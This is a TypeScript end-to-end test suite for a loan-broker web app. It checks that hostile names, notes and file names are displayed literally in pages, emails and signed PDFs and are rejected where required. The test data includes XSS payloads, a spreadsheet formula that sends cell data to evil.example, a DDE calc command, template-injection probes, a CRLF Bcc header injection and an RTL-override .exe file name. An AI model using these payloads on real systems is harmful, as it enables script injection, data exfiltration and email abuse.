import type { Page } from "playwright";
import { describe, expect, it } from "vitest";
import { businesses } from "../../infra/local/fakes/business-register/businesses.ts";
import type { Message } from "../../infra/local/mail/message.ts";
import { signedPdfFacts, pdfText } from "../support/cli/pdf.ts";
import { referralOf } from "../support/fixtures/referrals.ts";
import { signatureFields } from "../support/fixtures/signatures.ts";
import { downloadFile, files } from "../support/fixtures/uploads.ts";
import { withBrowser } from "./support/browser.ts";
import { aCustomerOf, signingPageEmailedTo, uploadPageEmailedTo } from "./support/customers.ts";
import { newestEmailTo } from "./support/mailbox.ts";
import { type Account, aBroker, clientOf } from "./support/people.ts";
import { aConsumerQuote } from "./support/quotes.ts";
import { runningSite } from "./support/site.ts";

const browser = withBrowser();
const company = businesses[0]!;

const hostileTexts = [
  ["markup", `"><img src=https://evil.example/a onerror=alert(1)><svg onload=alert(2)>`],
  ["a script", "</title></textarea></script><script>alert(1)</script>"],
  ["a formula", `=HYPERLINK("https://evil.example/?a="&A1,"Pay here")`],
  ["a command and templates", `@SUM(1+1)*cmd|' /C calc'!A0 {{7*7}} \${7*7} javascript:alert(1)`],
] as const;

/** A page that records dialogs; foreign requests and policy violations fail the test anyway. */
async function opened(path: string, token?: string): Promise<{ readonly page: Page; readonly dialogs: readonly string[] }> {
  // The store of files has an address of its own.
  const expectedErrors = /^request to another origin: http:\/\/(localhost|127\.0\.0\.1):/;
  const page = await browser.open(path, { expectedErrors, ...(token !== undefined && { token }) });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    if (dialog.type() !== "beforeunload") dialogs.push(dialog.message());
    void dialog.accept();
  });
  return { page, dialogs };
}

const made = "[onerror], [onload], [src*=evil], [href*=evil], [href^='javascript:'], script:not([src]), iframe, object, embed";

/** The elements that would exist if the text had been parsed as markup. */
const grown = (page: Page) =>
  page.locator(made).evaluateAll((all) => all.map((one) => (one as unknown as { outerHTML: string }).outerHTML));

/** A broker who uses this text for every name that allows it, and a customer of the same name. Emails need an organisation's registered name. */
async function called(text: string) {
  const broker = await aBroker({ hasSecondFactor: true });
  const { api } = broker;
  const businessDetails = { EntityName: text, Abn: company.abn };
  await api.saveBusinessDetails({ body: { businessDetails, businessAddress: { description: text } } });
  const requested = await aCustomerOf(broker, "commercial");
  const { applicationId, customerId } = requested;
  const entity = await api.createEntity({ body: { applicationId, abrData: { Abn: company.abn } } });
  await api.updateEntity({ body: { entityId: entity._id, entityName: text } });
  await api.updateCustomer({ body: { customerId, firstName: text, lastName: text } });
  await api.addNote({ body: { applicationId, text } });
  return { broker, requested };
}

/** The broker's consumer quote with this text in it. */
async function anIncomeCalled(description: string, { api }: Account): Promise<string> {
  const { _id, customers } = await api.startQuote({ params: { type: "consumer" } });
  await api.addIncome({ body: { customerId: customers[0]!._id, item: { description, amount: 1000 } } });
  return _id;
}

const without = (sentEmail: string | undefined) => (sentEmail ?? "").replaceAll("\u2060", "");

/** Checks that an email shows the text literally in both its parts, and links only to the product. */
async function expectEmail(page: Page, sentEmail: Message, text: string): Promise<void> {
  await page.setContent(sentEmail.html ?? "");
  const links = await page.locator("a").evaluateAll((all) => all.map((link) => (link as unknown as { href: string }).href));

  expect([sentEmail.to.length, sentEmail.cc, sentEmail.bcc, sentEmail.replyTo]).toEqual([1, [], [], []]);
  expect(sentEmail.subject).toMatch(/^[A-Z][a-z ]+$/);
  expect(without(sentEmail.text)).toContain(text);
  expect(sentEmail.text).not.toMatch(/\/\/evil|evil\.example/);
  expect(without(await page.locator("body").innerText())).toContain(text);
  expect(links.map((link) => new URL(link).origin)).toEqual([runningSite()]);
  expect(await grown(page)).toEqual([]);
}

/** The text of the PDF at a document's URL. */
async function expectPdf(url: string | null, text: string): Promise<void> {
  const { content, disposition } = await downloadFile(url);

  expect(disposition).toMatch(/^attachment; /);
  expect(signedPdfFacts(content)).toEqual([]);
  expect(pdfText(content)).toContain(text.replaceAll(/\s/g, ""));
}

describe.each(hostileTexts)("%s in place of a name", (_kind, text) => {
  it("is shown literally on every page and runs nothing", async () => {
    const { broker, requested } = await called(text);
    await broker.api.sendUploadLink({ body: { customerId: requested.customerId } });
    await broker.api.sendPrivacyLink({ body: { customerId: requested.customerId } });
    await broker.api.updateOrganisation({ body: { organisationId: broker.user.organisation!._id, name: text } });
    const fileName = `${text.replaceAll("/", "")}.pdf`;

    const { page: upload, dialogs } = await opened(await uploadPageEmailedTo(requested));
    // A new name is not verified: the broker's own is shown.
    await upload.getByText("For your quote with Priya Raman.").waitFor();
    const identity = upload.getByRole("region", { name: "Director's identity", exact: true });
    const file = { name: fileName, mimeType: "application/pdf", buffer: files.pdf };
    await identity.locator("input[type=file][multiple]").setInputFiles(file);
    await upload.getByText("1 of 3 done").waitFor();
    await identity.getByText(fileName, { exact: true }).waitFor();
    const { page: signing, dialogs: ofSigning } = await opened(await signingPageEmailedTo(requested));
    await signing.getByText("Priya Raman asks for your consent").waitFor();
    await signing.getByText(text, { exact: true }).first().waitFor();
    const { page, dialogs: ofBroker } = await opened("/customers", broker.token);
    await page.getByRole("cell", { name: text, exact: true }).first().waitFor();
    const found = [await grown(upload), await grown(signing), await grown(page)];
    await page.goto(`${runningSite()}/account/organisation`);
    await page.getByRole("heading", { name: text, exact: true }).waitFor();
    found.push(await grown(page));
    await page.goto(`${runningSite()}/quote/${requested.applicationId}`);
    await page.getByText(text, { exact: true }).first().waitFor();
    await page.getByRole("button", { name: "Documents and notes" }).click();
    await page.getByRole("dialog", { name: "Documents" }).getByText(fileName, { exact: true }).waitFor();
    found.push(await grown(page));
    await page.goto(`${runningSite()}/quote/${await anIncomeCalled(text, broker)}`);
    await page.getByRole("button", { name: /^Income, expenses, debts/ }).click();
    await page.getByRole("button", { name: /^Income\s*1 item/ }).click();
    await page.getByRole("group", { name: text, exact: true }).waitFor();
    found.push(await grown(page));

    expect(found.flat()).toEqual([]);
    expect([...dialogs, ...ofSigning, ...ofBroker]).toEqual([]);
    const { notes, documents } = await broker.api.readApplication({ params: { id: requested.applicationId } });
    expect([notes.map((note) => note.text), documents.map((document) => document.fileName)]).toEqual([[text], [fileName]]);
    const { disposition } = await downloadFile((await broker.api.readDocument({ params: { id: documents[0]!._id } })).url);
    expect(disposition).toMatch(/^attachment; filename="[^"\\]*"; filename\*=UTF-8''[\w%.!~*-]+$/);
  });

  it("is shown literally in emails, which link only to the product, and in signed agreements, which have no links", async () => {
    const { broker, requested } = await called(text);
    const { api, user, email } = broker;
    const { page, dialogs } = await opened("/login");
    await page.goto("about:blank");

    await api.sendPrivacyLink({ body: { customerId: requested.customerId } });
    const signingEmail = await newestEmailTo(requested.email, "/privacy?");
    await expectEmail(page, signingEmail, text);
    const { customerId, applicationId } = requested;
    const linkSecret = (await signingPageEmailedTo(requested)).split("#")[1]!;
    const body = { customerId, applicationId, applicationType: "commercial" as const, ...signatureFields };
    await clientOf().signPrivacy({ body }, { linkSecret });
    const { documents } = await api.readApplication({ params: { id: applicationId } });
    await expectPdf((await api.readDocument({ params: { id: documents[0]!._id } })).url, `Signed by ${text} ${text}`);

    const agreement = await api.signReferralAgreement({ body: { userId: user._id, ...signatureFields } });
    await expectPdf((await api.readDocument({ params: { id: agreement._id } })).url, `On behalf of ${text}, ABN`);
    const referred = await refer(broker, text);
    await expectEmail(page, await newestEmailTo("referrals@kelpie.example", referred), text);
    await expectEmail(page, await newestEmailTo(email, "/referrals"), text);

    expect(dialogs).toEqual([]);
  });
});

/** The application that is referred for a customer of this name. */
async function refer(broker: Account, text: string): Promise<string> {
  const { _id, customers } = await aConsumerQuote(broker);
  await broker.api.sendReferral({ body: { ...(await referralOf(broker, _id, customers[0]!._id)), firstName: text, lastName: text } });
  return _id;
}

const statusOf = (one: PromiseSettledResult<unknown>) => (one.status === "rejected" ? (one.reason as { status: number }).status : 200);

describe("a text with a line break or a change of direction", () => {
  const breaking = ["Kim\r\nBcc: all@evil.example", "Kim\nLee", "Kim\u0000", "Kim\u001b[31m", "invoice\u202Efdp.exe"];

  it("is rejected as a name of a person, business or file, and with a change of direction alone as a note", async () => {
    const broker = await aBroker({ hasSecondFactor: true });
    const { customerId, applicationId } = await aCustomerOf(broker);
    const { api } = broker;
    const file = { kind: "identity", contentType: "application/pdf", size: 100, customerId } as const;
    const organisationId = (await api.readUser()).organisation!._id;

    const answersTo = async (text: string) => {
      const calls = [
        api.updateCustomer({ body: { customerId, firstName: text } }),
        api.updateCustomer({ body: { customerId, lastName: text } }),
        api.uploadDocument({ body: { ...file, fileName: text } }),
        api.updateOrganisation({ body: { organisationId, name: text } }),
        api.addIncome({ body: { customerId, item: { description: text, amount: 1 } } }),
        api.saveSupplier({ body: { applicationId, name: text } }),
        api.inviteUsers({ body: [{ firstName: text, email: "kim@example.com" }] }),
        ...(/[\r\n]/.test(text) ? [] : [api.addNote({ body: { applicationId, text } })]),
      ];
      return [...new Set((await Promise.allSettled(calls)).map(statusOf))];
    };

    for (const text of breaking) expect([text, await answersTo(text)]).toEqual([text, [400]]);
    expect(await answersTo("Kim")).toEqual([200]);
  });

  it("is rejected as a registering user's name, as is any text with other characters than letters", async () => {
    const texts = [...breaking, ...hostileTexts.map(([, text]) => text)];
    const person = { email: "kim@example.com", password: "Quote2day!", phoneNumber: "0412345678", lastName: "Lee" };

    const calls = texts.map((firstName) => clientOf().register({ body: { ...person, firstName } }));

    const outcomes = await Promise.allSettled(calls);
    expect(outcomes.map((one) => (one.status === "rejected" ? (one.reason as { field: string }).field : "taken"))).toEqual(
      texts.map(() => "firstName"),
    );
  });
});
